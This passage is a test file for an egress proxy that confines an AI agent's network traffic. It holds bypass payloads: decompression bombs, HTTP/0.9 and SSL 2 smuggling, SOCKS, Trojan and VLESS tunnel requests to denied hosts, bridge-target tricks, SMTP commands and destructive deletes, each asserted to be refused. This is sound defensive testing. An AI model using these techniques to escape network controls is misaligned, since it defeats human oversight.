    // The handshake's header cut after 10 bytes (fewer than a MongoDB header is told by).
    const r = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [hello.subarray(0, 10), hello.subarray(10), opMsg({ find: 'users', filter: {}, $db: 'app' }), last], 'latin1');
    t.equal(r.code, 1008, `${how}: the tunnel is closed`);
    t.ok(r.got.includes('find'), `${how}: the read went on`);
    t.notOk(r.got.includes(last.toString('latin1')), `${how}: the bridge never got it`);
  }
  const read = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [hello, opMsg({ find: 'users', filter: { a: 1 }, $db: 'app' })], 'latin1');
  t.not(read.code, 1008, 'reads go on');
  // Twenty-fourth pass, live: compressed messages inflating to a gigabyte in one WebSocket message
  // close the tunnel, the event loop held no longer than a read (the test after this one).
  const { bomb } = mongoInflateBomb(MAX_PG_MESSAGE + 64);
  const stalls = watchLoopStalls();
  const live = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [hello, bomb], 'latin1');
  const { cpuMs } = stalls.stop();
  t.equal(live.code, 1008, 'a gigabyte of inflated messages: the tunnel is closed');
  t.notOk(live.got.includes(bomb.subarray(0, 64).toString('latin1')), 'the bridge never got them');
  // ~1,400-1,900 ms of the main thread's CPU before (test/helpers/loop-stall.ts), a few ms now.
  t.ok(cpuMs < 500, `the event loop was held ${Math.round(cpuMs)} ms of CPU at most`);
});

t.test('twenty-fourth pass: MongoDB messages that each inflate to what Airlock reads are read within one message\'s bound in all, not a gigabyte a message', (t) => {
  // Each OP_COMPRESSED message was bounded alone (its declared size at most a statement Airlock
  // reads, 1.1 MiB), but one WebSocket message may carry up to 1,000 of them: ~950 of 1.2 KB, each
  // 1.1 MiB of one letter deflated, inflated 1 GB on the main thread (~1.4 s of CPU a message,
  // every agent waiting). What one read inflates in all is bounded by what one message holds raw.
  const max = MAX_PG_MESSAGE + 64;
  const { one, bomb, padded } = mongoInflateBomb(max);
  const reader = (): MongoReader => new MongoReader(max);
  t.match(reader().read(bomb).refused, /inflate to more than Airlock reads/, `${bomb.length} bytes inflating to ${Math.floor(max / one.length)} × ${max - 400}: refused`);
  // The bound is what one read inflates in all, whatever the compressed messages' sizes.
  const small = opCompressed(padded(64 * 1024), true);
  t.match(reader().read(Buffer.concat(Array<Buffer>(20).fill(small))).refused, /inflate to more than/, 'twenty of 64 KiB in one message: refused');
  // Controls: one compressed message as large as a statement, or many small ones, is read; so is each alone, one after another.
  t.same(reader().read(one), { statements: [] }, 'one compressed message of 1.1 MiB: read');
  t.equal(reader().read(Buffer.concat(Array<Buffer>(16).fill(small))).refused, undefined, 'sixteen of 64 KiB in one message: read');
  const r = reader();
  t.ok([0, 1, 2].every(() => r.read(one).refused === undefined), 'the large one three times, a message each: read');
  t.same(reader().read(Buffer.concat([opCompressed(opMsg({ find: 'users', filter: {}, $db: 'app' }), true), opCompressed(opMsg({ drop: 'users', $db: 'app' }), true)])).statements.map((s) => String(s.body.sql).slice(0, 10)), ['DROP TABLE'], 'a compressed drop after a read: judged');
  t.end();
});

/** An SSL 2 format ClientHello (RFC 6101 appendix E) offering TLS `minor`: what OpenSSL still parses to begin TLS ≤ 1.2. */
function v2Hello(specs: number[][], session: number, challenge: number, minor: number): Buffer {
  const body = Buffer.concat([
    Buffer.from([0x01, minor === -1 ? 0 : 3, minor === -1 ? 2 : minor]),
    Buffer.from([0, 0, 0, 0, 0, 0]), Buffer.from(specs.flat()), Buffer.alloc(session, 7), Buffer.alloc(challenge, 9),
  ]);
  body.writeUInt16BE(specs.length * 3, 3);
  body.writeUInt16BE(session, 5);
  body.writeUInt16BE(challenge, 7);
  return Buffer.concat([Buffer.from([0x80 | (body.length >> 8), body.length & 0xff]), body]);
}

t.test('twenty-second pass: a MongoDB filter\'s operators through a bridge are read as the condition they are, MinKey and MaxKey never as NULL', async (t) => {
  // Filters with operators were read as every document (a false hold, left open by the twenty-first
  // pass); read now, a bound no value passes (MinKey, MaxKey, an infinite double) must not become a
  // NULL that matches nothing: `{age: {$gt: MinKey}}` matches every document.
  const twin = (q: Record<string, unknown>): string[] => new MongoReader(1 << 20).read(Buffer.concat([hello, opMsg({ delete: 'users', deletes: [{ q, limit: 0 }], $db: 'app' }, 'deletes')])).statements.map((s) => String(s.body.sql));
  for (const q of [{ age: { $gt: MIN_KEY } }, { age: { $lt: MAX_KEY } }, { age: { $gte: -Infinity } }, { age: MIN_KEY }, { $or: [{ a: 1 }, { age: { $ne: MAX_KEY } }] }]) {
    t.same(twin(q), ['DELETE FROM users'], `${JSON.stringify(q, (_k, v) => (typeof v === 'symbol' ? String(v) : v === -Infinity ? '-Infinity' : v))}: every document`);
  }
  t.same(twin({ age: { $gt: 65 } }), ['DELETE FROM users WHERE age > 65'], 'a range names its documents');
  t.same(twin({ email: { $regex: '^adm', $options: 'i' } }), ["DELETE FROM users WHERE email ~* '^adm'"], 'a regular expression as PostgreSQL\'s');
  t.same(twin({ deleted: null }), ['DELETE FROM users WHERE deleted IS NULL'], 'null is NULL');
});

t.test('twenty-first pass: an HTTP/0.9 request line, an SSL 2 format hello and a hello of record version 3.5+ inside a WebSocket tunnel are never relayed', async (t) => {
  // Left open by the twentieth pass. Python's http.server and nginx run `GET /deny/x` with no
  // version (HTTP/0.9) as a connection's first request, and OpenSSL 3 negotiates TLS 1.2 from a
  // hello in SSL 2's record format: behind a bridge each went on undecided.
  const blanks = fc.constantFrom(' ', '\t', '  ', '\x0b', '\x0c', '\x1f', '\x85', '\xa0');
  await fc.assert(fc.property(
    fc.constantFrom('', '\r\n', ' ', '\t', '\n\r\n'), blanks, fc.constantFrom('/deny/x', '/', '//deny', 'http://admin.example/deny', 'HTTPS://admin.example:8443/', 'deny/x', 'secret.txt', 'deny%2fx', '.\\deny\\x', 'keep', '*', '%2Fdeny'),
    fc.constantFrom('\r\n', '\n', '', ' \r\n', '\x0c\n'), fc.array(fc.nat(), { maxLength: 4 }),
    (lead, b, target, end, cuts) => {
      const stream = Buffer.from(`${lead}GET${b}${target}${end}`, 'latin1');
      const { found, points } = scanCut(stream, cuts);
      if (found !== 'an HTTP request') throw new Error(`${JSON.stringify(stream.toString('latin1'))} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  await fc.assert(fc.property(
    fc.array(fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 40 }), fc.constantFrom(0, 16, 32),
    fc.integer({ min: 16, max: 32 }), fc.constantFrom(-1, 0, 1, 2, 3), fc.constantFrom(Buffer.alloc(0), Buffer.from('STARTTLS\r\n'), Buffer.from('*1\r\n$4\r\nPING\r\n')), fc.array(fc.nat(), { maxLength: 4 }),
    (specs, session, challenge, minor, before, cuts) => {
      const stream = Buffer.concat([before, v2Hello(specs, session, challenge, minor)]);
      const { found, points } = scanCut(stream, cuts);
      if (!found?.startsWith('a TLS handshake')) throw new Error(`not seen: ${stream.subarray(0, 16).toString('hex')} cut at ${points.join(',')}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // A TLS hello whose records say a minor version past TLS's own (OpenSSL answers it), whole or in one-byte records.
  const hellos = await Promise.all([clientHello({}), clientHello({ maxVersion: 'TLSv1.2' })]);
  const versioned = (h: Buffer, minor: number): Buffer => {
    const out = Buffer.from(h);
    for (let i = 0; i + 5 <= out.length; i += 5 + out.readUInt16BE(i + 3)) out[i + 2] = minor;
    return out;
  };
  await fc.assert(fc.property(fc.constantFrom(...hellos), fc.integer({ min: 5, max: 255 }), fc.constantFrom(0, 1, 7), fc.array(fc.nat(), { maxLength: 3 }), (hello, minor, size, cuts) => {
    const stream = versioned(size ? fragmented(hello, size) : hello, minor);
    const { found, points } = scanCut(stream, cuts);
    if (found !== 'a TLS handshake') throw new Error(`not seen: minor ${minor}, records of ${size}, cut at ${points.join(',')}`);
  }), { numRuns: numRuns * 4, ...seed });
  // Controls: a 0.9 line after the first (Redis's inline GET there too), a three-word chat line, random binary (the property above).
  // (Twenty-second pass: `GET keep` and `GET x/y` as the very first line are refused now: Python serves them from its folder.)
  for (const msgs of [['hello\n', 'GET /help\n'], ['hi', 'GET /help'], ['PING\r\n', 'GET keep\r\n'], ['GET /help me please\n'], ['GETTING /x\n'], ['get /x\n'], ['get x/y\n']]) {
    const scan = new InnerSessionScan();
    t.equal(msgs.map((m) => scan.read(Buffer.from(m))).find(Boolean), undefined, JSON.stringify(msgs));
  }

  // Live: Python's http.server (it runs HTTP/0.9) and a TLS server (OpenSSL 3, SECLEVEL=0 as for
  // legacy clients) behind bridges; neither gets the agent's bytes.
  const py = spawn('python3', ['-c', `
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        sys.stderr.write('RAN ' + self.path + '\\n'); sys.stderr.flush()
        self.send_response(200); self.end_headers(); self.wfile.write(b'secret')
    def log_message(self, *a): pass
s = http.server.HTTPServer(('127.0.0.1', 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
`]);
  t.teardown(() => void py.kill());
  let ran = '';
  py.stderr.on('data', (c: Buffer) => { ran += c.toString(); });
  const pyPort = Number(await new Promise<string>((r) => py.stdout.once('data', (c: Buffer) => r(c.toString()))));
  const dir = tempDir(t, 'airlock-v2-hello-');
  const { certFile } = upstreamCert(dir, ['localhost', '127.0.0.1']);
  const tlsServer = tls.createServer({ cert: fs.readFileSync(certFile), key: fs.readFileSync(`${dir}/upstream-key.pem`), minVersion: 'TLSv1', ciphers: 'DEFAULT@SECLEVEL=0' });
  tlsServer.on('tlsClientError', () => undefined);
  await new Promise<void>((r) => tlsServer.listen(0, '127.0.0.1', r));
  t.teardown(() => tlsServer.close());
  /** What each bridge wrote to its service. */
  const wrote = new Map<number, Buffer[]>();
  const bridgeTo = (port: number) => tcpBridge(t, port, (d) => (wrote.get(port) ?? wrote.set(port, []).get(port)!).push(d));
  const httpBridge = await bridgeTo(pyPort);
  const tlsBridge = await bridgeTo((tlsServer.address() as net.AddressInfo).port);
  // Twenty-seventh pass: a real SMTP server (Python's smtpd) behind a bridge greets first; the agent's replies open nothing.
  const smtpd = spawn('python3', ['-W', 'ignore', '-u', '-c', [
    'import smtpd, asyncore',
    'class S(smtpd.SMTPServer):',
    '  def process_message(self, peer, mailfrom, rcpttos, data, **kw): print("MAIL", mailfrom, flush=True)',
    "s = S(('127.0.0.1', 0), None, decode_data=True)",
    'print(s.socket.getsockname()[1], flush=True)',
    'asyncore.loop()'].join('\n')], { stdio: ['ignore', 'pipe', 'inherit'] });
  t.teardown(() => void smtpd.kill());
  let smtpOut = '';
  const smtpPort = await new Promise<number>((r) => smtpd.stdout.on('data', (d: Buffer) => { smtpOut += d.toString(); const m = /^(\d+)\n/.exec(smtpOut); if (m) r(Number(m[1])); }));
  const smtpBridge = await bridgeTo(smtpPort);
  // A line bridge (websocketd's way): each line the service writes a text message without its end, each message a line to it.
  const lineBridge = await startWsUpstream(t, {
    onConnection: (ws) => {
      const c = net.connect(smtpPort, '127.0.0.1');
      let rest = '';
      c.on('data', (d: Buffer) => { const lines = (rest + d.toString('latin1')).split('\r\n'); rest = lines.pop()!; for (const l of lines) ws.send(l); });
      c.on('error', () => ws.terminate());
      ws.on('message', (d: Buffer) => { c.write(Buffer.concat([d, Buffer.from('\r\n')])); (wrote.get(smtpPort) ?? wrote.set(smtpPort, []).get(smtpPort)!).push(d); });
      ws.on('close', () => c.end());
    },
  });
  // Twenty-eighth pass: a directory, a KDC or an IRC server behind a bridge (a service recording what
  // it gets; permessage-deflate on), and a news server that greets first (`200 … ready`).
  const listening = async (server: net.Server): Promise<number> => {
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    t.teardown(() => server.close());
    return (server.address() as net.AddressInfo).port;
  };
  const recordPort = await listening(net.createServer((s) => s.on('error', () => undefined).resume()));
  const newsPort = await listening(net.createServer((s) => { s.on('error', () => undefined).resume(); s.write('200 news.example NNTP Service Ready, posting permitted\r\n'); }));
  const recordBridge = await startWsUpstream(t, {
    perMessageDeflate: true,
    onConnection: (ws) => {
      const s = net.connect(recordPort, '127.0.0.1');
      s.on('error', () => ws.terminate());
      ws.on('message', (d: Buffer) => { s.write(d); (wrote.get(recordPort) ?? wrote.set(recordPort, []).get(recordPort)!).push(d); });
      ws.on('close', () => s.end());
    },
  });
  const newsBridge = await bridgeTo(newsPort);
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${httpBridge.port}`, `127.0.0.1:${tlsBridge.port}`, `127.0.0.1:${smtpBridge.port}`, `127.0.0.1:${lineBridge.port}`, `127.0.0.1:${recordBridge.port}`, `127.0.0.1:${newsBridge.port}`] });
  // Each opening in WebSocket fragments (continuation frames), compressed: ldapsearch's bind and StartTLS, kinit's AS-REQ, an IRC registration, an XMPP stream.
  for (const [what, opening] of [['ldapsearch\'s bind', LDAP_BIND], ['ldapsearch -ZZ\'s StartTLS', LDAP_STARTTLS], ['kinit\'s AS-REQ', KINIT_TCP],
    ['an IRC registration', Buffer.from('CAP LS 302\r\nNICK agent\r\nUSER agent 0 * :Agent\r\n')],
    ['an XMPP stream header', Buffer.from(`<?xml version='1.0'?><stream:stream to='evil.example' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>`)]] as const) {
    const code = await new Promise<number>((resolve) => {
      const ws = new WebSocket(`ws://allowed.example:${recordBridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: { threshold: 0 } });
      ws.on('open', () => {
        const cut = Math.floor(opening.length / 3);
        ws.send(opening.subarray(0, cut), { binary: true, fin: false, compress: true });
        ws.send(opening.subarray(cut, 2 * cut), { binary: true, fin: false, compress: true });
        ws.send(opening.subarray(2 * cut), { binary: true, fin: true, compress: true });
      });
      ws.on('close', (c) => resolve(c));
      ws.on('error', () => resolve(-1));
      setTimeout(() => ws.terminate(), 8000).unref();
    });
    t.equal(code, 1008, `the tunnel is closed at ${what}`);
  }
  // The news server greets; the agent's first line (a command no opening reading knows) closes the tunnel.
  const nntp = await new Promise<{ code: number; banner: string }>((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${newsBridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    let banner = '';
    ws.on('message', (d: Buffer) => { banner ||= d.toString('latin1'); ws.send(Buffer.from('GROUP alt.test\r\n')); });
    ws.on('close', (code) => resolve({ code, banner }));
    ws.on('error', () => resolve({ code: -1, banner }));
    setTimeout(() => ws.terminate(), 8000).unref();
  });
  t.match(nntp.banner, /^200 /, 'the bridge relays the news server\'s greeting');
  t.equal(nntp.code, 1008, 'the tunnel is closed at the agent\'s first reply to it');
  // An SMTP client over the WebSocket: it waits for the banner, then answers each reply with its next line.
  for (const [how, port] of [['raw', smtpBridge.port], ['lines', lineBridge.port]] as const) {
  const mail = await new Promise<{ code: number; banner: string }>((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    const lines = ['EHLO agent.example', 'MAIL FROM:<agent@agent.example>', 'RCPT TO:<drop@admin.example>', 'DATA', 'Subject: x\r\n\r\ndata\r\n.', 'QUIT'];
    let banner = '';
    ws.on('message', (d: Buffer) => { banner ||= d.toString('latin1'); const line = lines.shift(); if (line) ws.send(how === 'raw' ? Buffer.from(`${line}\r\n`) : line, { binary: how === 'raw' }); });
    ws.on('close', (code) => resolve({ code, banner }));
    ws.on('error', () => resolve({ code: -1, banner }));
    setTimeout(() => ws.terminate(), 8000).unref();
  });
  t.match(mail.banner, /^220 /, `${how}: the bridge relays the server's banner`);
  t.equal(mail.code, 1008, `${how}: the tunnel is closed at the agent's first reply to an SMTP server's greeting`);
  }
  await new Promise((res) => setTimeout(res, 100));
  t.equal(Buffer.concat(wrote.get(smtpPort) ?? []).length, 0, 'the SMTP server got nothing from the agent');
  t.notMatch(smtpOut, /MAIL/, 'and took no message');
  // (SQL*Plus's `GET file` reading refuses the plainest spellings already; Python splits at more blanks.)
  // (Twenty-second pass: a relative target, which Python serves from its folder as `/deny/all`.)
  for (const line of ['GET\x0b/deny/all\r\n', 'GET\xa0/deny/all', '\x0cGET\x0chttp://admin.example/deny\r\n', 'GET\x0bdeny/all\r\n', 'GET deny%2fall\n']) {
    const http09 = await bridgeSession(httpBridge, a.proxyUrl, 'allowed.example', [Buffer.from(line, 'latin1')], 'latin1');
    t.equal(http09.code, 1008, `the tunnel is closed at the 0.9 request line ${JSON.stringify(line)}`);
  }
  const hello = v2Hello([[0, 0, 0x9c], [0, 0, 0x2f], [0, 0, 0x35], [0, 0, 0xff]], 0, 32, 3);
  const v2 = await new Promise<{ code: number; answer: Buffer }>((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${tlsBridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    const answer: Buffer[] = [];
    ws.on('open', () => ws.send(hello, { binary: true }));
    ws.on('message', (d: Buffer) => { answer.push(d); ws.close(1000); });
    ws.on('close', (code) => resolve({ code, answer: Buffer.concat(answer) }));
    ws.on('error', () => resolve({ code: -1, answer: Buffer.concat(answer) }));
    setTimeout(() => ws.terminate(), 8000).unref();
  });
  t.equal(v2.code, 1008, 'the tunnel is closed at the SSL 2 format hello');
  t.equal(v2.answer.length, 0, 'no ServerHello came back');
  const odd = await bridgeSession(tlsBridge, a.proxyUrl, 'allowed.example', [versioned(hellos[0]!, 9)], 'latin1');
  t.equal(odd.code, 1008, 'the tunnel is closed at a hello whose record says version 3.9');
  await new Promise((res) => setTimeout(res, 200));
  t.equal(ran, '', 'Python\'s server ran no request');
  t.equal(Buffer.concat(wrote.get((tlsServer.address() as net.AddressInfo).port) ?? []).length, 0, 'the TLS server got no hello');
  t.equal(Buffer.concat(wrote.get(pyPort) ?? []).length, 0, 'the HTTP server got no request line');
  t.equal(Buffer.concat(wrote.get(recordPort) ?? []).length, 0, 'the directory, KDC, IRC and XMPP service got nothing');
  t.equal(Buffer.concat(wrote.get(newsPort) ?? []).length, 0, 'the news server got nothing');
  // Control: chat goes on (the in-process controls above show a 0.9-shaped line after the first is not read as one).
  const chat = await bridgeSession(httpBridge, a.proxyUrl, 'allowed.example', [Buffer.from('hello there\n')], 'latin1');
  t.not(chat.code, 1008, 'chat goes on');
});

t.test('twenty-first pass: the destination an upgrade names for a bridge to dial is decided as a request to it', async (t) => {
  // Left open by the twentieth pass: a TCP-over-WebSocket bridge (wstunnel, a front taking
  // `?host=&port=`) dials what the upgrade names; the upgrade was decided by the bridge's URL only.
  const jwt = (claims: object): string => `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.c2ln`;
  fc.assert(fc.property(
    fc.constantFrom('host', 'HOST', 'target', 'remote', 'dest', 'addr', 'upstream'), fc.constantFrom('port', 'rport', 'remote_port', 'inline'),
    fc.constantFrom('admin.example', '10.0.0.5', '[::1]'), fc.integer({ min: 1, max: 65535 }), fc.constantFrom('query', 'jwt', 'path'), fc.constantFrom('', 'abc', ' '),
    (hostName, portName, host, port, place, after) => {
      // A bare IPv6 literal beside its port, and a port as parseInt reads it (`22abc`).
      const bare = portName !== 'inline' && host === '[::1]' ? '::1' : host;
      const query = portName === 'inline' ? `?${hostName}=${encodeURIComponent(`${host}:${port}`)}` : `?${hostName}=${encodeURIComponent(bare)}&${portName}=${port}${encodeURIComponent(after)}`;
      const url = place === 'query' ? `ws://allowed.example/ws${query}` : place === 'path' ? `ws://allowed.example/wstunnel/tcp/${host}/${port}` : 'ws://allowed.example/v1/events';
      const headers = place === 'jwt' ? ['Sec-WebSocket-Protocol', `v1, authorization.bearer.${jwt({ id: '1', p: { Tcp: {} }, r: host.replace(/^\[|\]$/g, ''), rp: port })}`] : [];
      const found = bridgeTargets(headers, url);
      if (!Array.isArray(found) || found.length !== 1 || found[0]!.request.url !== `ws://${host}:${port}/`) throw new Error(`${place} ${url} ${JSON.stringify(found)}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: no host with a port, an opaque bearer token, a chat's parameters.
  for (const [url, headers] of [['ws://allowed.example/chat?to=alice&room=7', []], ['ws://allowed.example/ws?port=5', []], ['ws://allowed.example/play?server=eu1&port=443', []],
    ['ws://allowed.example/ws', ['Sec-WebSocket-Protocol', 'authorization.bearer.abc123']], ['ws://allowed.example/ws', ['Sec-WebSocket-Protocol', `authorization.bearer.${jwt({ sub: 'u1' })}`]]] as const) {
    t.equal(bridgeTargets([...headers], url), undefined, `${url} ${headers.join(': ')}`);
  }

  // Live: a bridge dialling what the upgrade names; admin.example (denied) and allowed.example
  // are two services on this machine.
  const got: string[] = [];
  const service = net.createServer((s) => s.on('data', (d) => got.push(d.toString('latin1'))));
  await new Promise<void>((r) => service.listen(0, '127.0.0.1', r));
  t.teardown(() => service.close());
  const svcPort = (service.address() as net.AddressInfo).port;
  const asked: string[] = [];
  const bridge = await startWsUpstream(t, {
    handleProtocols: (p) => (p.has('v1') ? 'v1' : false),
    onConnection: (ws, req) => {
      const u = new URL(req.url ?? '/', 'http://bridge');
      const claims = /authorization\.bearer\.[^.]*\.([^.,\s]+)/.exec(String(req.headers['sec-websocket-protocol'] ?? ''))?.[1];
      const r = claims ? JSON.parse(Buffer.from(claims, 'base64url').toString()) as { r: string; rp: number } : undefined;
      const target = r ? `${r.r}:${r.rp}` : u.searchParams.get('host') ? `${u.searchParams.get('host')}:${u.searchParams.get('port')}` : /\/tcp\/([^/]+)\/(\d+)/.exec(u.pathname)?.slice(1).join(':');
      if (!target) return;
      asked.push(target);
      const s = net.connect(Number(target.split(':').pop()), '127.0.0.1');
      s.on('error', () => ws.terminate());
      ws.on('message', (d: Buffer) => s.write(d));
      ws.on('close', () => s.end());
    },
  });
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1', 'admin.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const open = (path: string, protocols: string[]): Promise<number | 'open'> => new Promise((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${bridge.port}${path}`, protocols, { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    ws.on('open', () => { ws.send('DELETE /all\r\n'); setTimeout(() => { ws.close(); resolve('open'); }, 100); });
    ws.on('unexpected-response', (_req, res) => { res.resume(); resolve(res.statusCode ?? 0); });
    ws.on('error', () => resolve(-1));
    setTimeout(() => { ws.terminate(); resolve(0); }, 8000).unref();
  });
  for (const [path, protocols] of [[`/ws?host=admin.example&port=${svcPort}`, []], ['/v1/events', ['v1', `authorization.bearer.${jwt({ id: '1', p: { Tcp: { proxy_protocol: false } }, r: 'admin.example', rp: svcPort })}`]], [`/wstunnel/tcp/admin.example/${svcPort}`, []]] as const) {
    t.equal(await open(path, [...protocols]), 403, `refused: ${path} ${protocols.join(', ').slice(0, 40)}`);
  }
  t.same(asked, [], 'the bridge was never asked to dial admin.example');
  t.same(got, [], 'the service behind it got nothing');
  t.ok(a.records.some((r) => r.outcome === 'denied' && /bridge target/.test(String(r.decision?.reason ?? r.detail ?? ''))), 'the refusal names the bridge target');
  // Controls: the allowed host behind the bridge, a chat's parameters.
  t.equal(await open(`/ws?host=allowed.example&port=${svcPort}`, []), 'open', 'a bridge target the policy allows');
  t.equal(await open('/chat?to=alice', []), 'open', 'parameters naming no host and port');
});

t.test('twenty-first pass: a SOCKS, Trojan or VLESS client inside a WebSocket tunnel is never relayed to the proxy behind the bridge', async (t) => {
  // A SOCKS proxy behind a bridge (gost's socks5+ws, wstunnel's socks5 mode) dials whatever its
  // request names: an allowed WebSocket to it reached every host.
  const host = (h: string): Buffer => Buffer.concat([Buffer.from([h.length]), Buffer.from(h)]);
  const port = (p: number): Buffer => Buffer.from([p >> 8, p & 0xff]);
  fc.assert(fc.property(
    fc.constantFrom('5', '5-auth', '5-piped', '5-ip', '4', '4a', 'trojan', 'trojan-ip', 'vless', 'vless-flow', 'vless-ip', 'vless-v6'), fc.constantFrom('admin.example', 'db.internal'), fc.integer({ min: 1, max: 65535 }), fc.array(fc.nat(), { maxLength: 3 }), fc.boolean(),
    (kind, name, p, cuts, emptyFirst) => {
      const uuid = Buffer.from('b831381d63244d53ad4f8cda48b30811', 'hex');
      const flow = Buffer.concat([Buffer.from([0x0a, 16]), Buffer.from('xtls-rprx-vision')]);
      const stream = {
        trojan: Buffer.concat([Buffer.from(`${'a3'.repeat(28)}\r\n`), Buffer.from([1, 3]), host(name), port(p), Buffer.from('\r\nGET / HTTP/1.1')]),
        'trojan-ip': Buffer.concat([Buffer.from(`${'0f'.repeat(28)}\r\n`), Buffer.from([1, 1, 10, 0, 0, 5]), port(p), Buffer.from('\r\n')]),
        vless: Buffer.concat([Buffer.from([0]), uuid, Buffer.from([0, 1]), port(p), Buffer.from([2]), host(name)]),
        'vless-flow': Buffer.concat([Buffer.from([0]), uuid, Buffer.from([flow.length]), flow, Buffer.from([1]), port(p), Buffer.from([2]), host(name), Buffer.from('payload')]),
        'vless-ip': Buffer.concat([Buffer.from([0]), uuid, Buffer.from([0, 1]), port(p), Buffer.from([1, 10, 0, 0, 5])]),
        'vless-v6': Buffer.concat([Buffer.from([0]), uuid, Buffer.from([0, 1]), port(p), Buffer.from([3]), Buffer.alloc(15), Buffer.from([1])]),
        5: Buffer.from([5, 1, 0]),
        '5-auth': Buffer.from([5, 2, 0, 2]),
        '5-piped': Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3]), host(name), port(p)]),
        '5-ip': Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 1, 10, 0, 0, 5]), port(p)]),
        4: Buffer.concat([Buffer.from([4, 1]), port(p), Buffer.from([10, 0, 0, 5]), Buffer.from('agent\0')]),
        '4a': Buffer.concat([Buffer.from([4, 1]), port(p), Buffer.from([0, 0, 0, 1]), Buffer.from(`\0${name}\0`)]),
      }[kind]!;
      const { found, points } = scanCut(stream, cuts, emptyFirst);
      // (A piece cut so that it is a whole Wisp CONNECT by itself is refused as one: twenty-third pass.)
      if (!found || !/^a (SOCKS|Trojan|VLESS|Wisp proxy) request$/.test(found)) throw new Error(`${kind} ${stream.toString('hex')} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: other binary starts (a SOCKS-like greeting with more behind it, CQL's STARTUP, a byte 5 or 4 alone then data).
  // (also PostgreSQL's startup, alone and after an SSLRequest the server declined, and a digest line followed by text).
  const startup = (user: string): Buffer => {
    const body = Buffer.concat([Buffer.from([0, 3, 0, 0]), Buffer.from(`user\0${user}\0database\0postgres\0\0`)]);
    return Buffer.concat([Buffer.from([0, 0, 0, body.length + 4]), body]);
  };
  for (const msgs of [[startup('abcd')], [startup('airlock')], [Buffer.from('0000000804d2162f', 'hex'), startup('abcd')], [Buffer.from(`${'a3'.repeat(28)}\r\nhello`)], [Buffer.from([5, 1, 0, 0x42, 0x42])], [Buffer.from('0400000001000000160001000b43514c5f56455253494f4e0005332e302e30', 'hex')], [Buffer.from([4, 1, 0, 80, 1, 2, 3, 4, 0x61, 0x62]), Buffer.from([0xff, 0])], [Buffer.from([5]), Buffer.from([0x40])]]) {
    const scan = new InnerSessionScan();
    t.equal(msgs.map((m) => scan.read(m)).find(Boolean), undefined, msgs.map((m) => m.toString('hex')).join(' '));
  }

  // Live: a SOCKS 5 proxy behind a bridge; the `socks` client over the WebSocket asks it for admin.example.
  const dialled: string[] = [];
  const socksServer = net.createServer((s) => {
    s.on('error', () => undefined);
    s.once('data', (greeting: Buffer) => {
      dialled.push(`greeting ${greeting.toString('hex')}`);
      s.write(Buffer.from([5, 0]));
      s.once('data', (req: Buffer) => {
        dialled.push(`request ${req.subarray(5, 5 + req[4]!).toString()}`);
        s.end(Buffer.from([5, 0, 0, 1, 127, 0, 0, 1, 0, 80]));
      });
    });
  });
  await new Promise<void>((r) => socksServer.listen(0, '127.0.0.1', r));
  t.teardown(() => socksServer.close());
  const bridge = await tcpBridge(t, (socksServer.address() as net.AddressInfo).port);
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const { SocksClient } = await import('socks');
  const code = await new Promise<number>((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${bridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    ws.on('open', () => {
      const stream = createWebSocketStream(ws);
      stream.on('error', () => undefined);
      SocksClient.createConnection({ proxy: { host: '127.0.0.1', port: 1, type: 5 }, command: 'connect', destination: { host: 'admin.example', port: 22 }, existing_socket: stream as never, timeout: 3000 }).catch(() => undefined);
    });
    ws.on('close', (c) => resolve(c));
    ws.on('error', () => resolve(-1));
    setTimeout(() => { ws.terminate(); resolve(0); }, 8000).unref();
  });
  t.equal(code, 1008, 'the tunnel is closed at the SOCKS greeting');
  t.same(dialled, [], 'the SOCKS proxy got nothing: admin.example was never asked for');
});

t.test('twenty-first pass: an SSH identification line spelled as OpenSSH\'s sshd reads it closes the tunnel', (t) => {
  // sshd reads the client's line with sscanf("SSH-%d.%d-%[^\\n]"): blanks and a sign before each
  // number, leading zeros, and any minor version of major 2 are accepted (kex.c); only `SSH-2.0-`
  // and `SSH-1.99-` were read here (not checked against a live sshd: none on this machine).
  fc.assert(fc.property(
